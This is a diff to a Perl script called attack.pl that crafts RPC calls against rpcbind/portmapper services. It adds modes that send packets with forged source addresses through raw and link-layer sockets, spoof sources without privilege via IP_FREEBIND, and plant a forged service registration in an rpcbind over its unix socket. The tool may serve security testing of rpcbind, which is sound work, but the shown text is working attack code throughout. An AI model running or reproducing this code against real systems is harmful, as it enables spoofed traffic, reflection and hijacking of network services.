@@ -8,6 +8,9 @@
 #   attack.pl unix   PATH VERSION PROCEDURE ADDRESS
 #   attack.pl callit HOST PROTOCOL ADDRESS      through the host's rpcbind
 #   attack.pl raw    SOURCE SOURCEPORT HOST PORT ADDRESS
+#   attack.pl frame  DEVICE MAC SOURCE SOURCEPORT HOST PORT ADDRESS
+#   attack.pl free   udp|tcp SOURCE HOST PORT ADDRESS   SOURCE is not ours
+#   attack.pl set    PATH PORT                  in the list of an rpcbind
 #   attack.pl idle   HOST|PATH PORT COUNT FILE  hold connections, while FILE is
 #
 # Prints the word that the server answers with, or what happened instead.
@@ -88,14 +91,17 @@ sub stream {
 	}));
 }
 
-# The call of version 3 with an address: its length and the octets.
+# The call of version 3 with an address: its length and the octets, and for
+# 2 and 4 until when.
 sub local_call {
 	my ($version, $procedure, $address) = @_;
 	my $head = pack 'N10', $xid, 0, 2, 900101, $version, $procedure,
 	    0, 0, 0, 0;
 	return call($address) if $version < 3;
 	my ($octets) = address($address);
-	return $head . pack('N', length $octets) . $octets;
+	my %until = (2 => pack('Q>2', 2000000000, 1), 4 => pack('Q>', 2000000000));
+	return $head . pack('N', length $octets) . $octets
+	    . ($until{$procedure} // '');
 }
 
 # RFC 1833, 3.2: procedure 5 of version 2 calls another program.
@@ -115,21 +121,84 @@ sub sum16 {
 	return ~$sum & 0xffff;
 }
 
-# A datagram with a source address of one's own choice.
-sub raw {
-	my ($source, $source_port, $host, $port, $address) = @_;
-	my $message = call($address);
+# The UDP datagram, its checksum as of RFC 768 and RFC 8200, 8.1.
+sub udp {
+	my ($from, $source_port, $to, $port, $message) = @_;
 	my $size = 8 + length $message;
-	my ($from, $to) = map { inet_pton(AF_INET, $_) } $source, $host;
 	my $udp = pack('n4', $source_port, $port, $size, 0) . $message;
-	my $check = sum16($from . $to . pack('xCn', 17, $size) . $udp) || 0xffff;
-	substr $udp, 6, 2, pack 'n', $check;
-	my $ip = pack('C2n3C2n', 0x45, 0, 20 + $size, 1, 0, 64, 17, 0)
+	my $check = sum16($from . $to . pack('N2', $size, 17) . $udp);
+	substr $udp, 6, 2, pack 'n', $check || 0xffff;
+	return $udp;
+}
+
+# The packet of either family, with a source of one's own choice.
+sub packet {
+	my ($source, $source_port, $host, $port, $address) = @_;
+	my ($from, $to) = map { (address($_))[0] } $source, $host;
+	my $udp = udp($from, $source_port, $to, $port, call($address));
+	return pack('NnC2', 6 << 28, length $udp, 17, 64) . $from . $to . $udp
+	    if length $to == 16;
+	my $head = pack('C2n3C2n', 0x45, 0, 20 + length $udp, 1, 0, 64, 17, 0)
 	    . $from . $to;
+	substr $head, 10, 2, pack 'n', sum16($head);
+	return $head . $udp;
+}
+
+sub raw {
+	my (undef, undef, $host) = @_;
 	socket my $socket, PF_INET, SOCK_RAW, 255 or return print "cannot: $!\n";
-	send $socket, $ip . $udp, 0, pack_sockaddr_in(0, $to)
+	send $socket, packet(@_), 0, pack_sockaddr_in(0, inet_pton(AF_INET, $host))
 	    or return print "cannot: $!\n";
 	print "sent\n";
+}
+
+# packet(7): what our own kernel would not send.
+sub frame {
+	my ($device, $mac, @packet) = @_;
+	my $packet = packet(@packet);
+	my $type = unpack('C', $packet) >> 4 == 6 ? 0x86dd : 0x0800;
+	socket my $socket, 17, SOCK_DGRAM, 0 or return print "cannot: $!\n";
+	my $request = pack 'a16x24', $device;
+	ioctl $socket, 0x8933, $request or return print "cannot: $!\n";
+	my $to = pack 'SnlSCCa8', 17, $type, unpack('x16l', $request), 0, 0, 6,
+	    pack 'H*', $mac =~ tr/://dr;
+	send $socket, $packet, 0, $to or return print "cannot: $!\n";
+	print "sent\n";
+}
+
+# ipv6(7), ip(7): IPV6_FREEBIND and IP_FREEBIND need no privilege.
+sub freely {
+	my ($kind, $source, $host, $port, $address) = @_;
+	my $type = $kind eq 'udp' ? SOCK_DGRAM : SOCK_STREAM;
+	my $v6 = $host =~ /:/;
+	my @at = map { my ($ip, $at) = @$_; $v6
+		? pack_sockaddr_in6($at, inet_pton(AF_INET6, $ip))
+		: pack_sockaddr_in($at, inet_pton(AF_INET, $ip))
+	    } [$source, 0], [$host, $port];
+	socket my $socket, $v6 ? AF_INET6 : AF_INET, $type, 0
+	    or return print "cannot: $!\n";
+	setsockopt $socket, $v6 ? 41 : 0, $v6 ? 78 : 15, 1
+	    or return print "cannot: $!\n";
+	bind $socket, $at[0] or return print "cannot: $!\n";
+	defined with_limit(sub { connect $socket, $at[1] or undef })
+	    or return print "cannot: $!\n";
+	my $message = call($address);
+	syswrite $socket, $type == SOCK_STREAM ? marked($message) : $message
+	    or return print "cannot: $!\n";
+	print "sent\n";
+}
+
+# RFC 1833, 2.2.1: what an older daemon of root's left behind.
+sub set {
+	my ($path, $port) = @_;
+	my $string = sub { pack 'N/a x!4', $_[0] };
+	my $where = join '.', '0.0.0.0', $port >> 8, $port & 255;
+	my $socket = IO::Socket::UNIX->new(Peer => $path)
+	    or return print "cannot: $!\n";
+	$socket->syswrite(marked(pack('N10', $xid, 0, 2, 100000, 3, 1,
+		0, 0, 0, 0) . pack('N2', 900101, 1)
+		. $string->('udp') . $string->($where) . $string->('')));
+	return stream($socket);
 }
 
 sub idle {
@@ -167,6 +236,12 @@ if ($verb eq 'udp' || $verb eq 'tcp') {
 		callit($address));
 } elsif ($verb eq 'raw') {
 	raw(@rest);
+} elsif ($verb eq 'frame') {
+	frame(@rest);
+} elsif ($verb eq 'free') {
+	freely(@rest);
+} elsif ($verb eq 'set') {
+	set(@rest);
 } elsif ($verb eq 'idle') {
 	idle(@rest);
 } else {
